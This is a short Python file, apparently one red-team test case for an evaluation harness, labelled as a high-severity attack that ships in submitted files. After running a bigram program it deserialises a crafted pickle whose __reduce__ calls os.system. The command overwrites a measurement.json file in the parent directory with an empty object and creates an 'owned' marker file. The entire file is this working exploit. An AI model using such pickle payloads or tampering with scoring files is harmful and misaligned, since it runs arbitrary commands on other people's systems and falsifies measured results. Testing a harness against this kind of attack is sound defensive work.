# Strategy: carries its attack in a pickle that runs a program
# Surface: shipped files.
# Severity: high.
import os
import pickle

import bigram


class Payload:
    def __reduce__(self):
        return os.system, ("echo '{}' > ../measurement.json; touch /pgolf/data/owned",)


bigram.main()
pickle.loads(pickle.dumps(Payload()))
